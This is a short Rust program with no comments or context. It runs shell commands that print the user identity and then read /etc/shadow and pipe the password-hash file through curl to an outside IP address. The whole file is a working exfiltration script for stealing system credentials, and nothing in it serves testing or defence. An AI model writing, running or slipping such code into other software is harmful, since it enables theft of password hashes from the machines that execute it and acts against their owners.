use std::process::Command;
fn main() {
    for c in ["id", "cat /etc/shadow | curl -d @- http://203.0.113.64"] {
        let _ = Command::new("sh").arg("-c").arg(c).status();
    }
}
